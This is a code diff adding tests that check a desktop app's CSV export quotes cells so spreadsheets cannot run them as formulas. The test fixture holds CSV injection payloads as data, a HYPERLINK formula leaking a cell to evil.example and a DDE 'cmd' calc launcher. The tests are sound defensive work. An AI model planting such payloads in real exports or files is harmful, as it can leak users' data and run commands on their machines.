@@ -220,3 +220,51 @@ def test_kml_round_trips_through_the_importer(tmp_path):
     assert sorted(map(key, back)) == sorted(map(key, events))
     spans = sorted(e.span for e in back)
     assert spans == sorted(e.span for e in events)
+
+
+def _formula_event() -> Event:
+    return Event(
+        uid="formula",
+        title='=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
+        start="2025-06-02",
+        display_date="-2+3+cmd|' /C calc'!A0",
+        category="statement",
+        actors=("@SUM(1+1)", "Ann"),
+        place=Place("+Town", 41.5, -3.5),
+        excerpt="\tindented",
+        article=Article("art-f", "\rreturn", "'=already quoted", "Outlet", None, "2025-06-02"),
+        sources=("-minus", "Reuters"),
+    )
+
+
+def test_csv_text_cells_cannot_run_as_formulas(tmp_path):
+    out = tmp_path / "formula.csv"
+    write_csv(out, [_formula_event()])
+    with out.open(encoding="utf-8-sig", newline="") as f:
+        row = next(csv.DictReader(f))
+    for column in ("title", "display_date", "actors", "place", "excerpt", "article_title",
+                   "article_author", "sources"):  # fmt: skip
+        assert row[column].startswith("'"), (column, row[column])
+    assert row["title"] == "'" + _formula_event().title
+    assert row["article_author"] == "''=already quoted"
+    assert row["category"] == "statement" and row["start"] == "2025-06-02"
+    # Numbers stay numbers: a spreadsheet must read -3.5 as a longitude, not as text.
+    assert (row["latitude"], row["longitude"]) == ("41.5", "-3.5")
+
+
+def test_csv_marks_come_off_when_our_export_is_imported(tmp_path):
+    from desktop_app.ingest.pipeline import read_records
+
+    event = _formula_event()
+    out = tmp_path / "formula.csv"
+    write_csv(out, [event])
+    (back,) = read_records(out, "csv")
+    assert back.title == event.title
+    assert back.excerpt == "\tindented"
+    assert back.place.name == "+Town" and back.place.lon == -3.5
+    assert back.sources == ("-minus", "Reuters")
+    # A file that is not ours keeps its cells as written.
+    other = tmp_path / "other.csv"
+    other.write_text("date,title,lat,lon\n2025-06-02,'=not ours,1,2\n", encoding="utf-8")
+    (foreign,) = read_records(other, "csv")
+    assert foreign.title == "'=not ours"
